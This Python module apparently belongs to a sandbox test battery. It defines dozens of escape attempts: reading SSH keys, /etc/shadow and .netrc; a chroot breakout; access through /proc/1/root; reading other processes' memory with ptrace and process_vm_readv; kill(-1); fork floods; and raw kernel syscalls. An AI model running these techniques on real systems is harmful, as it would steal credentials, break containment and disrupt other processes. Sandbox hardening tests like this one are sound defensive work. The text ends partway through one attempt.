"""What a hostile program tries: one function per attempt, numbered as in the specification of the sandbox (§11).

The first group; `battery` holds the table of all, and is what runs as a guest, a tool, a native agent, or without any
sandbox (the positive control). Out: one JSON line per attempt on stdout: `succeeded`, `refused`, `n/a` or `broken`.
Standard library only, and everything is imported before the first attempt, because one may close the file system.

An attempt succeeds only if its effect was read back. Detection: C: the canary `SECRET-…` was seen; H: the host's state
changed (also compared from outside); R: the call worked, and its effect is there. It fails by an error of refusal or
by death through SIGSYS; any other error or signal is `broken`, so a badly written attempt never counts as held.
"""

import contextlib
import ctypes
import encodings.idna  # noqa: F401  (the first connect would import it)
import errno
import fcntl
import json
import mmap
import os
import platform
import random
import re
import resource
import select
import signal
import socket
import ssl
import stat
import struct
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Targets = dict[str, Any]
SECRET = re.compile(rb"SECRET-[0-9a-f]{32}")
TRIES_SECONDS = 10.0

FILES, PROC, PRIVILEGE = "files", "proc, sys", "namespaces, privilege"
PROCESSES, KERNEL, NETWORK, LEAKS, RESOURCES = "processes", "kernel surface", "network", "leaks", "resources"


class Refused(Exception):
    """The thing was tried and did not work."""


class NotHere(Exception):
    """This machine or this run has nothing to try it on; says why."""


@dataclass(frozen=True)
class Attempt:
    id: str
    name: str
    group: str
    detect: str  # C, H or R
    layers: dict[str, int]  # each of which stops it alone; the number is the first Landlock ABI that does
    control: str  # where it must succeed: plain or box; "n/a: reason"; "recorded: reason" is not promised, not judged
    take: Callable[[Targets], object]
    fine: frozenset[int]  # errors of refusal beyond the usual
    kinds: tuple[str, ...]  # of sandbox in which it makes sense; empty: all


ATTEMPTS: dict[str, Attempt] = {}


def attempt(
    id: str,
    name: str,
    group: str,
    detect: str,
    layers: str,
    control: str = "plain",
    fine: tuple[int, ...] = (),
    kinds: tuple[str, ...] = (),
) -> Callable[[Callable[[Targets], object]], Callable[[Targets], object]]:
    """`layers`: words, each with an optional `:ABI`. `control`: plain = an unprivileged user; box = root of a
    throw-away user namespace of that user."""

    def register(take: Callable[[Targets], object]) -> Callable[[Targets], object]:
        named = {word.partition(":")[0]: int(word.partition(":")[2] or 1) for word in layers.split()}
        ATTEMPTS[id] = Attempt(id, name, group, detect, named, control, take, frozenset(fine), kinds)
        return take

    return register


# Raw system calls: x86_64, aarch64 (None: not there).
NUMBERS: dict[str, tuple[int, int | None]] = {
    "add_key": (248, 217),
    "bpf": (321, 280),
    "chroot": (161, 51),
    "clone3": (435, 435),
    "execveat": (322, 281),
    "fanotify_init": (300, 262),
    "fanotify_mark": (301, 263),
    "fsconfig": (431, 431),
    "fsmount": (432, 432),
    "fsopen": (430, 430),
    "init_module": (175, 105),
    "io_uring_setup": (425, 425),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "memfd_create": (319, 279),
    "mlock": (149, 228),
    "modify_ldt": (154, None),
    "mount": (165, 40),
    "move_mount": (429, 429),
    "mq_open": (240, 180),
    "mq_unlink": (241, 181),
    "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265),
    "open_tree": (428, 428),
    "perf_event_open": (298, 241),
    "personality": (135, 92),
    "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434),
    "pivot_root": (155, 41),
    "process_vm_readv": (310, 270),
    "ptrace": (101, 117),
    "quotactl": (179, 60),
    "reboot": (169, 142),
    "renameat2": (316, 276),
    "setns": (308, 268),
    "setuid": (105, 146),
    "shmctl": (31, 195),
    "shmget": (29, 194),
    "swapon": (167, 224),
    "syslog": (103, 116),
    "umount2": (166, 39),
    "unshare": (272, 97),
    "userfaultfd": (323, 282),
}
NEWNS, NEWUTS, NEWIPC, NEWUSER, NEWPID, NEWNET = 0x20000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def call(name: str, *args: object) -> int:
    number = NUMBERS[name][0 if platform.machine() == "x86_64" else 1]
    if number is None:
        raise NotHere(f"{name}: not on {platform.machine()}")
    return call_number(number, *args)


def call_number(number: int, *args: object) -> int:
    wide = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    result = _libc.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def read(path: str, limit: int = 1 << 16) -> bytes:
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, limit)
    finally:
        os.close(fd)


def first_that_works(tries: dict[str, Callable[[], object]]) -> str:
    """Evidence of the first that works; the last refusal if none does."""
    last: OSError | Refused = Refused("nothing to try")
    for name, take in tries.items():
        try:
            return f"{name}: {take()}"
        except (OSError, Refused) as problem:
            last = problem
    raise last


def gather(takes: list[Callable[[], object]]) -> bytes:
    """Everything that any of them yields, errors in words between."""
    parts: list[str] = []
    for take in takes:
        try:
            value = take()
            parts.append(value.decode("latin-1") if isinstance(value, bytes) else str(value))
        except OSError as problem:
            parts.append(f"[{errno.errorcode.get(problem.errno or 0, problem.errno)}]")
    return "\n".join(parts).encode("latin-1", "replace")


def pids() -> list[int]:
    """Visible processes other than the attempts themselves."""
    own = {os.getpid(), os.getppid()}  # an attempt runs as a child of the runner
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


def make_file(folder: str) -> str:
    path = f"{folder}/agent-os-battery-{os.getpid()}"
    fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
    os.write(fd, b"was here")
    os.close(fd)
    found = read(path) == b"was here"
    os.unlink(path)
    if not found:
        raise Refused("the file was not there afterwards")
    return f"wrote {path}"


# ---------------------------------------------------------------------------------------------------------------- files


@attempt("1", "read a host file that is not mounted", FILES, "C", "namespaces landlock")
def hidden_file(t: Targets) -> object:
    return read(t["host_file"])


@attempt("2", "read a private key below ~/.ssh", FILES, "C", "namespaces landlock")
def ssh_key(t: Targets) -> object:
    return read(t["ssh_file"])


@attempt("3", "read /etc/shadow", FILES, "C", "namespaces", "box")
def shadow(t: Targets) -> object:
    text = read("/etc/shadow")
    return text if SECRET.search(text) else b"SECRET-" + b"0" * 32  # the host's own is as bad as a canary


@attempt("4", "write below /usr", FILES, "H", "namespaces landlock", "box")
def write_usr(t: Targets) -> object:
    places = ("/usr", "/usr/bin", "/usr/lib", "/usr/local", "/usr/share")
    return first_that_works({place: lambda place=place: make_file(place) for place in places})


@attempt("5", "write below /etc", FILES, "H", "namespaces landlock", "box")
def write_etc(t: Targets) -> object:
    def append() -> str:
        with open("/etc/passwd", "a") as file:
            file.write("x")
        return "changed /etc/passwd"

    return first_that_works({"create": lambda: make_file("/etc"), "append": append})


@attempt("6", "write below /dev", FILES, "H", "namespaces landlock", "box")
def write_dev(t: Targets) -> object:
    return make_file("/dev")


@attempt("9", "hard link of a host file", FILES, "C", "namespaces landlock", fine=(errno.EXDEV,))
def hard_link(t: Targets) -> object:
    path = f"{t['work']}/linked-{os.getpid()}"
    os.link(t["link_file"], path)
    try:
        return read(path)
    finally:
        os.unlink(path)


@attempt("106", "masked path by rename, hard link, '..', exchange, descriptor", FILES, "C", "namespaces")
def masked(t: Targets) -> object:
    takes: list[Callable[[], object]] = []
    for top in t["masked_in"]:
        folder, token, held = f"{top}/.ssh", f"{top}/token", f"{top}/conf"

        def moved(old: str, inner: str = "") -> bytes:
            new = f"{old}-moved-{os.getpid()}"
            os.rename(old, new)
            try:
                return read(f"{new}{inner}")
            finally:
                os.rename(new, old)

        def linked(token: str = token, top: str = top) -> bytes:
            new = f"{top}/linked-{os.getpid()}"
            os.link(token, new)
            try:
                return read(new)
            finally:
                os.unlink(new)

        def exchanged(token: str = token, top: str = top) -> bytes:
            new = f"{top}/swap-{os.getpid()}"
            open(new, "w").close()
            try:
                call("renameat2", -100, token.encode(), -100, new.encode(), 2)
                try:
                    return read(new)
                finally:
                    call("renameat2", -100, token.encode(), -100, new.encode(), 2)
            finally:
                os.unlink(new)

        def by_descriptor(top: str = top) -> bytes:
            fd = os.open(top, os.O_PATH | os.O_DIRECTORY)
            return os.read(os.open(".ssh/id_ed25519", os.O_RDONLY, dir_fd=fd), 999)

        takes += [
            lambda folder=folder: read(f"{folder}/id_ed25519"),
            lambda folder=folder: read(f"{folder}/../.ssh/./id_ed25519"),
            lambda folder=folder: read(f"/proc/self/root{folder}/id_ed25519"),
            lambda token=token: read(token),
            lambda held=held: read(f"{held}/.netrc"),
            lambda folder=folder: moved(folder, "/id_ed25519"),
            lambda token=token: moved(token),
            lambda held=held: moved(held, "/.netrc"),
            linked,
            exchanged,
            by_descriptor,
        ]
    return gather(takes)


@attempt("111", "a lease on a file of a read-only mount, which stalls the host's writers", FILES, "R", "seccomp")
def lease(t: Targets) -> object:
    with open(t["ro_file"]) as file:
        fcntl.fcntl(file, 1024, fcntl.F_RDLCK)  # F_SETLEASE
        if fcntl.fcntl(file, 1025) != fcntl.F_RDLCK:
            raise Refused("no lease")
        return "whoever opens it for writing now waits for us"


# ------------------------------------------------------------------------------------------------------------ proc, sys


@attempt("15", "host file through /proc/1/root", PROC, "C", "namespaces landlock", "box")
def proc_root(t: Targets) -> object:
    inner = ("root", "cwd")
    return gather([lambda link=link: read(f"/proc/1/{link}{t['host_file']}") for link in inner])


@attempt("16", "host file through /proc/self/root/..", PROC, "C", "namespaces landlock")
def proc_self_root(t: Targets) -> object:
    dots = "/.." * 40
    tops = (f"/proc/self/root{dots}", f"/proc/self/cwd{dots}", dots)
    return gather([lambda top=top: read(f"{top}{t['host_file']}") for top in tops])


@attempt("17", "write a sysctl", PROC, "H", "namespaces landlock", "box")
def sysctl(t: Targets) -> object:
    # Only settings that belong to a namespace: a failure of ours must not change the machine.
    def change(name: str, value: bytes) -> str:
        path = f"/proc/sys/{name}"
        before = read(path)
        _write_over(path, value)
        after = read(path)
        _write_over(path, before)
        if after == before:
            raise Refused(f"{name} kept its value")
        return f"{before!r} became {after!r}"

    values = {"kernel/hostname": b"battery", "net/ipv4/ip_default_ttl": b"77", "net/core/somaxconn": b"4097"}
    return first_that_works(
        {name: lambda name=name, value=value: change(name, value) for name, value in values.items()}
    )


def _write_over(path: str, value: bytes) -> None:
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, value)
    finally:
        os.close(fd)


@attempt("18", "the kernel's own files in /proc (kcore, kallsyms, …)", PROC, "R", "namespaces")
def kcore(t: Targets) -> object:
    def size(name: str) -> str:
        if not (found := len(read(f"/proc/{name}"))):
            raise Refused("there, but empty")
        return f"{found} bytes"

    names = ("kcore", "kallsyms", "kmsg", "iomem", "modules", "cmdline")
    return first_that_works({name: lambda name=name: size(name) for name in names})


@attempt("19", "list /sys", PROC, "R", "namespaces landlock")
def list_sys(t: Targets) -> object:
    found = os.listdir("/sys")
    if not found:
        raise Refused("/sys is empty")
    return f"{len(found)} entries"


@attempt("20", "reach a cgroup hierarchy, release_agent", PROC, "R", "namespaces landlock", "box")
def cgroup(t: Targets) -> object:
    def existing() -> str:
        for top, _, files in os.walk("/sys/fs/cgroup"):
            if "cgroup.procs" in files:
                return f"{top}: {read(top + '/cgroup.procs', 40)!r}"
        raise Refused("no cgroup file system in /sys")

    def mounted() -> str:
        place = f"{t['work']}/cg{os.getpid()}"
        os.mkdir(place)
        call("mount", b"cgroup2", place.encode(), b"cgroup2", 0, None)
        return read(f"{place}/cgroup.procs", 40).decode()

    return first_that_works({"existing": existing, "mounted": mounted})


@attempt("21", "list the host's processes", PROC, "R", "namespaces")
def host_pids(t: Targets) -> object:
    for pid in pids():
        with contextlib.suppress(OSError):
            if t["marker"].encode() in read(f"/proc/{pid}/cmdline"):
                return f"pid {pid}"
    raise Refused(f"{len(pids())} processes, none of the host's")


@attempt("22", "environment and memory of another process", PROC, "C", "namespaces landlock")
def others_memory(t: Targets) -> object:
    def memory(pid: int) -> bytes:
        found = b""
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, rights, *_ = line.split()
                if "[heap]" in line and rights.startswith("r"):
                    low, high = (int(text, 16) for text in span.split("-"))
                    mem.seek(low)
                    found += b" ".join(SECRET.findall(mem.read(min(high - low, 1 << 26))))
        return found

    takes: list[Callable[[], object]] = []
    for pid in {*pids(), t["peer_pid"]}:
        takes += [lambda pid=pid: read(f"/proc/{pid}/environ"), lambda pid=pid: memory(pid)]
    return gather(takes)


@attempt("22b", "another agent's workspace", PROC, "C", "namespaces landlock")
def others_workspace(t: Targets) -> object:
    takes: list[Callable[[], object]] = [lambda: read(t["peer_file"])]
    for pid in {*pids(), t["peer_pid"]}:
        takes += [
            lambda pid=pid: read(f"/proc/{pid}/cwd/kept"),
            lambda pid=pid: read(f"/proc/{pid}/root{t['peer_file']}"),
        ]
    return gather(takes)


@attempt("23", "write a program through /proc/PID/exe", PROC, "H", "namespaces landlock", fine=(errno.ETXTBSY,))
def write_exe(t: Targets) -> object:
    runs = subprocess.Popen([t["exe"], "30"])
    held = os.open(f"/proc/{runs.pid}/exe", os.O_RDONLY)
    runs.kill()
    runs.wait()
    before = os.fstat(held).st_size
    try:
        fd = os.open(f"/proc/self/fd/{held}", os.O_WRONLY | os.O_APPEND)
        os.write(fd, b"x")
        os.close(fd)
        after = os.stat(t["exe"]).st_size
        with open(t["exe"], "r+b") as file:
            file.truncate(before)
    finally:
        os.close(held)
    return f"{before} became {after} bytes"


@attempt("24", "change a read-only file through /proc/self/mem", PROC, "H", "namespaces landlock", fine=(errno.EIO,))
def self_mem(t: Targets) -> object:
    path = t["ro_file"]
    before = read(path)
    mem = os.open("/proc/self/mem", os.O_RDWR)
    _libc.mmap.restype = ctypes.c_void_p

    def through(access: int, rights: int, sharing: int) -> str:
        fd = os.open(path, access)
        address = _libc.mmap(None, ctypes.c_size_t(4096), rights, sharing, fd, ctypes.c_long(0))
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "mmap")
        os.pwrite(mem, b"X", address)
        if read(path) == before:
            raise Refused("only this process's own copy changed")
        os.pwrite(mem, before[:1], address)
        return "the file changed"

    ways = {
        "writable": (os.O_RDWR, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED),
        "shared": (os.O_RDONLY, mmap.PROT_READ, mmap.MAP_SHARED),
        "private": (os.O_RDONLY, mmap.PROT_READ, mmap.MAP_PRIVATE),
    }
    return first_that_works({name: lambda way=way: through(*way) for name, way in ways.items()})


# ------------------------------------------------------------------------------------------------ namespaces, privilege


@attempt("25", "chroot and break out", PRIVILEGE, "C", "namespaces capabilities seccomp landlock", "box")
def chroot(t: Targets) -> object:
    inner = f"{t['work']}/jail{os.getpid()}"
    os.mkdir(inner)
    top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot(inner)
    os.fchdir(top)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(t["host_file"])


def _mount_tmpfs(place: str) -> str:
    call("mount", b"tmpfs", place.encode(), b"tmpfs", 0, b"size=64k")
    if os.stat(place).st_dev == os.stat(f"{place}/..").st_dev:
        raise Refused("nothing was mounted")
    return "mounted a tmpfs"


@attempt("26", "mount", PRIVILEGE, "R", "namespaces capabilities seccomp landlock", "box")
def mount(t: Targets) -> object:
    place = f"{t['work']}/mnt{os.getpid()}"
    os.mkdir(place)
    return _mount_tmpfs(place)


@attempt("27", "unmount", PRIVILEGE, "R", "namespaces capabilities seccomp landlock", "box", fine=(errno.EINVAL,))
def unmount(t: Targets) -> object:
    place = t["mount_point"]
    before = os.stat(place).st_dev
    call("umount2", place.encode(), 2)
    if os.stat(place).st_dev == before:
        raise Refused("still mounted")
    return f"unmounted {place}"


def _namespace_changes(kind: str, change: Callable[[], object]) -> str:
    before = os.readlink(f"/proc/self/ns/{kind}")
    change()
    after = os.readlink(f"/proc/self/ns/{kind}")
    if before == after:
        raise Refused("the namespace stayed the same")
    return f"{before} became {after}"


@attempt("28", "new user namespace by unshare", PRIVILEGE, "R", "seccomp")
def unshare_user(t: Targets) -> object:
    return _namespace_changes("user", lambda: call("unshare", NEWUSER))


@attempt("29", "new mount namespace by unshare", PRIVILEGE, "R", "capabilities seccomp", "box")
def unshare_mount(t: Targets) -> object:
    return _namespace_changes("mnt", lambda: call("unshare", NEWNS))


@attempt("30", "new user namespace by clone3", PRIVILEGE, "R", "seccomp")
def clone3(t: Targets) -> object:
    before = os.readlink("/proc/self/ns/user")
    ours, theirs = os.pipe()
    arguments = struct.pack("8Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = call("clone3", arguments, len(arguments))
    if pid == 0:
        os.write(theirs, os.readlink("/proc/self/ns/user").encode())
        os._exit(0)
    os.waitpid(pid, 0)
    after = os.read(ours, 99).decode()
    if after == before:
        raise Refused("the child is in our own namespace")
    return f"{before} became {after}"


@attempt("31", "join the namespace of another process", PRIVILEGE, "R", "namespaces capabilities seccomp", "box")
def setns(t: Targets) -> object:
    last: Exception = Refused("no process to join")
    for pid in [1, *pids(), os.getpid()]:
        for kind in ("uts", "net", "ipc", "mnt", "cgroup"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                call("setns", fd, 0)
                return f"joined {kind} of pid {pid}: {os.readlink(f'/proc/self/ns/{kind}')}"
            except OSError as problem:
                last = problem
    raise last


@attempt("32", "pivot_root", PRIVILEGE, "R", "namespaces capabilities seccomp landlock", "box", fine=(errno.EINVAL,))
def pivot_root(t: Targets) -> object:
    before = os.stat("/").st_dev, os.stat("/").st_ino
    os.chdir(t["mount_point"])
    call("pivot_root", b".", b".")
    after = os.stat("/").st_dev, os.stat("/").st_ino
    if before == after:
        raise Refused("the root stayed")
    return f"the root {before} became {after}"


@attempt("33", "mount by fsopen", PRIVILEGE, "R", "namespaces capabilities seccomp", "box")
def fsopen(t: Targets) -> object:
    context = call("fsopen", b"tmpfs", 1)
    call("fsconfig", context, 6, None, None, 0)
    tree = call("fsmount", context, 1, 0)
    os.mkdir("made", dir_fd=tree)
    return f"a tmpfs with a directory of ours: inode {os.stat('made', dir_fd=tree).st_ino}"


@attempt("34", "mount by open_tree and move_mount", PRIVILEGE, "R", "namespaces capabilities seccomp landlock", "box")
def move_mount(t: Targets) -> object:
    place = f"{t['work']}/moved{os.getpid()}"
    os.mkdir(place)
    before = os.stat(place).st_ino
    tree = call("open_tree", -100, t["mount_point"].encode(), 1)
    call("move_mount", tree, b"", -100, place.encode(), 4)
    if os.stat(place).st_ino == before:
        raise Refused("nothing was moved")
    return f"{t['mount_point']} is at {place}, too"


@attempt("35", "become uid 0", PRIVILEGE, "R", "namespaces", "box", fine=(errno.EINVAL,))
def setuid(t: Targets) -> object:
    with contextlib.suppress(OSError):
        call("setuid", 0)
    os.setresuid(0, 0, 0)
    if os.geteuid() != 0:
        raise Refused(f"uid {os.geteuid()}")
    return "uid 0"


@attempt("36", "a setuid program changes the uid", PRIVILEGE, "R", "namespaces no_new_privs")
def setuid_program(t: Targets) -> object:
    own, seen = os.geteuid(), 0
    for path in filter(os.path.exists, t["setuid_programs"]):
        drain, full = _full_pipe()
        # Whatever it wants to say, it waits for room in the pipe first, and can be looked at meanwhile.
        runs = subprocess.Popen([path, "2"], stdin=subprocess.DEVNULL, stdout=full, stderr=full)
        try:
            uid = _uid_once_settled(runs.pid, own)
        except OSError:
            continue  # it ended without a word
        finally:
            os.close(drain)
            os.close(full)
            with contextlib.suppress(PermissionError):
                runs.kill()
            runs.wait()
        seen += 1
        if uid != own:
            return f"{path} runs as uid {uid}"
    if not seen:
        raise NotHere("no setuid program could be looked at")
    raise Refused(f"still uid {own} in {seen} programs")


def _uid_once_settled(pid: int, own: int) -> int:
    """Its own /proc entry and the new uid come a moment after the exec: look until the uid has changed, or until the
    program waits twice in a row. Raises if it ended before."""
    deadline, waits, uid = time.monotonic() + 2, 0, own
    while uid == own and waits < 2 and time.monotonic() < deadline:
        try:
            status = read(f"/proc/{pid}/status")
        except FileNotFoundError:
            if os.waitid(os.P_PID, pid, os.WEXITED | os.WNOHANG | os.WNOWAIT):
                raise
            continue
        uid = int(status.split(b"\nUid:")[1].split()[1])
        waits = waits + 1 if b"\nState:\tS" in status else 0
        time.sleep(0.02)
    return uid


def _full_pipe() -> tuple[int, int]:
    drain, full = os.pipe()
    os.set_blocking(full, False)
    with contextlib.suppress(BlockingIOError):
        while True:
            os.write(full, bytes(4096))
    os.set_blocking(full, True)
    return drain, full


@attempt("37", "make a device node", PRIVILEGE, "R", "landlock seccomp")
def mknod(t: Targets) -> object:
    # 0:0 is a deletion in an overlay, and Linux lets everybody make one; a block device needs real root everywhere.
    path = f"{t['work']}/node{os.getpid()}"

    def make(mode: int, device: int) -> str:
        os.mknod(path, mode | 0o600, device)
        made = os.lstat(path).st_mode
        os.unlink(path)
        if not (stat.S_ISBLK(made) or stat.S_ISCHR(made)):
            raise Refused("not a device")
        return oct(made)

    kinds = {"block": (stat.S_IFBLK, os.makedev(7, 0)), "character": (stat.S_IFCHR, os.makedev(0, 0))}
    return first_that_works({name: lambda kind=kind: make(*kind) for name, kind in kinds.items()})


@attempt(
    "38",
    "open a host file by its handle",
    PRIVILEGE,
    "C",
    "namespaces capabilities seccomp",
    "box",
    fine=(errno.ESTALE,),
)
def by_handle(t: Targets) -> object:
    # Of a directory: that form newer kernels also give to root of a user namespace. Of a file: what real root can do.
    folder, name = os.path.split(t["handle_file"])
    handles = [bytes.fromhex(text) for text in t.get("handles", ())] or [handle_of(folder), handle_of(t["handle_file"])]

    def on(place: str, handle: bytes, flags: int) -> bytes:
        fd = call("open_by_handle_at", os.open(place, os.O_RDONLY | os.O_DIRECTORY), handle, flags)
        return os.read(os.open(name, os.O_RDONLY, dir_fd=fd) if flags else fd, 999)

    places = (t["handle_on"], "/usr", t["work"], "/")
    forms = list(zip(handles, (os.O_DIRECTORY, os.O_RDONLY), strict=True))
    return gather([lambda place=place, form=form: on(place, *form) for place in places for form in forms])


def handle_of(path: str) -> bytes:
    """What a file system knows a file by, whatever the path: an inode number in disguise."""
    buffer, mount_id = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136), ctypes.c_int()
    call("name_to_handle_at", -100, path.encode(), buffer, ctypes.byref(mount_id), 0)
    return buffer.raw


# ------------------------------------------------------------------------------------------------------------ processes


@attempt("39", "ptrace another process", PROCESSES, "C", "namespaces landlock seccomp", fine=(errno.EIO,))
def ptrace(t: Targets) -> object:
    pid = t["peer_pid"]
    call("ptrace", 16, pid, 0, 0)
    try:
        os.waitpid(pid, 0x40000000)
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            mem.seek(t["peer_address"])
            return mem.read(39)
    finally:
        call("ptrace", 17, pid, 0, 0)


@attempt("40", "process_vm_readv", PROCESSES, "C", "namespaces landlock seccomp")
def vm_readv(t: Targets) -> object:
    found = ctypes.create_string_buffer(39)
    local = struct.pack("QQ", ctypes.addressof(found), 39)
    remote = struct.pack("QQ", t["peer_address"], 39)
    call("process_vm_readv", t["peer_pid"], local, 1, remote, 1, 0)
    return found.raw


@attempt(
    "41", "take a descriptor of another process", PROCESSES, "C", "namespaces landlock seccomp", fine=(errno.EBADF,)
)
def pidfd_getfd(t: Targets) -> object:
    taken = call("pidfd_getfd", call("pidfd_open", t["peer_pid"], 0), t["peer_fd"], 0)
    return os.pread(taken, 999, 0)


@attempt("42", "signal a process of the host", PROCESSES, "R", "namespaces landlock:6")
def signal_host(t: Targets) -> object:
    pid = t["peer_pid"]
    if os.path.exists(f"/proc/{pid}") and t["marker"].encode() not in read(f"/proc/{pid}/cmdline"):
        raise Refused("that number is somebody else here")
    os.kill(pid, signal.SIGUSR1)
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        if os.path.exists(t["signal_mark"]):
            return "the signal arrived"
        time.sleep(0.01)
    raise Refused("the signal did not arrive")


@attempt("43", "kill(-1) reaches a process outside", PROCESSES, "R", "namespaces landlock:6", "box")
def kill_all(t: Targets) -> object:
    victim = t["victim_pid"]

    def alive() -> bool:
        try:
            facts = read(f"/proc/{victim}/stat").rsplit(b")", 1)[1].split()
        except OSError:
            return False
        return facts[0] not in (b"Z", b"X") and t["marker"].encode() in read(f"/proc/{victim}/cmdline")

    there = alive()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    with contextlib.suppress(ProcessLookupError):
        os.kill(-1, signal.SIGTERM)
    deadline = time.monotonic() + 0.5
    while there and time.monotonic() < deadline:
        if not alive():
            return "a process outside ended"
        time.sleep(0.01)
    raise Refused("no process outside was reached")


@attempt("45", "more processes than allowed at the same time", PROCESSES, "R", "limits", fine=(errno.EAGAIN,))
def many_children(t: Targets) -> object:
    gate, hold = os.pipe()
    children: list[int] = []
    wanted = t["pids"] + 40
    try:
        while len(children) < wanted:
            pid = os.fork()
            if pid == 0:
                os.close(hold)
                os.read(gate, 1)
                os._exit(0)
            children.append(pid)
    finally:
        os.close(hold)
        for pid in children:
            os.waitpid(pid, 0)
    return f"{len(children)} at the same time"


# ------------------------------------------------------------------------------------------------------- kernel surface


@attempt("46", "io_uring", KERNEL, "R", "seccomp limits", fine=(errno.ENOMEM,))
def io_uring(t: Targets) -> object:
    fd = call("io_uring_setup", 4, ctypes.create_string_buffer(120))
    return os.readlink(f"/proc/self/fd/{fd}")


@attempt("46b", "userfaultfd", KERNEL, "R", "seccomp")
def userfaultfd(t: Targets) -> object:
    fd = call("userfaultfd", 1)  # user faults only: the form that needs no privilege
    api = bytearray(struct.pack("QQQ", 0xAA, 0, 0))
    fcntl.ioctl(fd, 0xC018AA3F, api)  # UFFDIO_API
    return f"its features: {struct.unpack('QQQ', api)[1]:x}"


@attempt("47", "bpf", KERNEL, "R", "seccomp", "plain")
def bpf(t: Targets) -> object:
    return f"map {call('bpf', 0, struct.pack('IIII', 2, 4, 4, 1) + bytes(112), 128)}"


@attempt("48", "perf_event_open", KERNEL, "R", "seccomp")
def perf(t: Targets) -> object:
    # software, task clock of ourselves, user space only: what the usual setting allows everybody
    attributes = struct.pack("IIQQQQQ", 1, 112, 1, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(64)
    fd = call("perf_event_open", attributes, 0, -1, -1, 0)
    return f"counted {struct.unpack('Q', os.read(fd, 8))[0]} ns"


@attempt("49", "read a key of the user's keyring", KERNEL, "C", "namespaces seccomp", fine=(126, 128))
def keyring(t: Targets) -> object:
    def key(ring: int) -> bytes:
        found = call("keyctl", 10, ring, b"user", t["key_name"].encode(), 0)
        buffer = ctypes.create_string_buffer(99)
        size = call("keyctl", 11, found, buffer, 99)
        return buffer.raw[:size]

    return first_that_works({str(ring): lambda ring=ring: key(ring) for ring in (-4, -3, -5)}).encode()


@attempt("50", "load a kernel module", KERNEL, "R", "seccomp", "n/a: needs real root; never run as host root")
def module(t: Targets) -> object:
    return f"loaded {call('init_module', b'no module', 9, b'')}"


@attempt("51", "kexec", KERNEL, "R", "seccomp", "n/a: needs real root; never run as host root")
def kexec(t: Targets) -> object:
    return f"loaded {call('kexec_load', 0, 0, None, 0)}"


@attempt("52", "reboot", KERNEL, "R", "capabilities seccomp", "box")
def reboot(t: Targets) -> object:
    # In a pid namespace of its own, where it means the end of that namespace's init. Without one, refused is refused.
    call("unshare", NEWPID)
    pid = os.fork()
    if pid == 0:
        inner = os.fork()
        if inner == 0:
            call("reboot", 0xFEE1DEAD, 672274793, 0x01234567, 0)
            os._exit(0)
        os.waitpid(inner, 0)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if not os.WIFSIGNALED(status):
        raise Refused("the namespace lives")
    return f"ended by signal {os.WTERMSIG(status)}, as a reboot does"


@attempt("53", "swapon", KERNEL, "R", "seccomp", "n/a: needs real root; never run as host root")
def swapon(t: Targets) -> object:
    return f"{call('swapon', t['work'].encode() + b'/none', 0)}"


@attempt("54", "read the kernel's log", KERNEL, "R", "seccomp")
def syslog(t: Targets) -> object:
    return f"{call('syslog', 3, ctypes.create_string_buffer(4096), 4096)} bytes"


@attempt("55", "fanotify", KERNEL, "R", "seccomp")
def fanotify(t: Targets) -> object:
    fd = call("fanotify_init", 0x200 | 1, os.O_RDONLY)  # reports file ids: the form that needs no privilege
    call("fanotify_mark", fd, 1, 0x100 | 0x08000000 | 0x40000000, -100, t["work"].encode())
    open(f"{t['work']}/seen{os.getpid()}", "w").close()
    os.unlink(f"{t['work']}/seen{os.getpid()}")
    if not select.select([fd], [], [], 2)[0]:
        raise Refused("no event came")
    return f"{len(os.read(fd, 4096))} bytes of events"


@attempt("56", "personality", KERNEL, "R", "seccomp")
def personality(t: Targets) -> object:
    call("personality", 0x0040000)
    if not call("personality", 0xFFFFFFFF) & 0x0040000:
        raise Refused("unchanged")
    return "address randomisation is off"


@attempt("57", "quotactl", KERNEL, "R", "seccomp")
def quotactl(t: Targets) -> object:
    return f"sync of all quotas: {call('quotactl', 0x800001 << 8, None, 0, None)}"


@attempt("58", "x32 system calls reach the kernel", KERNEL, "R", "seccomp")
def x32(t: Targets) -> object:
    if platform.machine() != "x86_64":
        raise NotHere("x86 only")
    try:
        return f"getpid by x32: {call_number(0x40000000 | 39)}"
    except OSError as problem:
        if problem.errno != errno.ENOSYS:
            raise
        return "the number passed the filter; this kernel has no x32"


@attempt("59", "32-bit system calls by int 0x80", KERNEL, "R", "seccomp")
def int80(t: Targets) -> object:
    if platform.machine() != "x86_64":
        raise NotHere("x86 only")
    code = b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3"  # push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
